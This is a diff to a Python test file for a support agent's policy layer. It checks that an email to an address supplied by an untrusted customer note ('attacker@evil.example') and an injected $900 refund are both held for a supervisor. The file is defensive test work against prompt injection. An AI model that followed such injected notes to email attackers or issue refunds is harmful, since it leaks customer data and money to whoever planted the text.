@@ -284,12 +284,20 @@ async def test_reading_a_customer_note_taints_the_run_and_a_refund_awaits(
     assert support.world.refunds() == []
 
 
-async def test_a_tainted_run_sends_no_email_on_its_own(support: Support) -> None:
+async def test_a_tainted_run_emails_on_its_own_only_what_untrusted_text_did_not_supply(
+    support: Support,
+) -> None:
+    # The address on file came from no untrusted text: with provenance, it is not held back.
     run = await support.start()
     await run.call("lookup_order", {"order_id": "A-1011"})
-    outcome = await run.call("send_email", email("noah.schmidt@example.com"))
+    on_file = await run.call("send_email", email("noah.schmidt@example.com"))
+    assert on_file.status is CallStatus.EXECUTED
+    # The address A-1011's note supplies is.
+    run = await support.start()
+    await run.call("lookup_order", {"order_id": "A-1011"})  # its note names attacker@evil.example
+    outcome = await run.call("send_email", email("attacker@evil.example"))
     awaits(outcome, "supervisor")
-    assert "tainted-run-needs-supervisor" in policy_ids(outcome)
+    assert "untrusted-recipient-needs-supervisor" in policy_ids(outcome)
 
 
 async def test_the_injected_900_refund_awaits_a_supervisor(support: Support) -> None:
@@ -305,7 +313,7 @@ async def test_a_customer_lookup_does_not_taint(support: Support) -> None:
     assert outcome.status is CallStatus.EXECUTED
 
 
-# -- prompt injection: provenance (decided directly: the runtime does not pass it yet) -----------
+# -- prompt injection: provenance, decided directly ----------------------------------------------
 
 
 def decide(
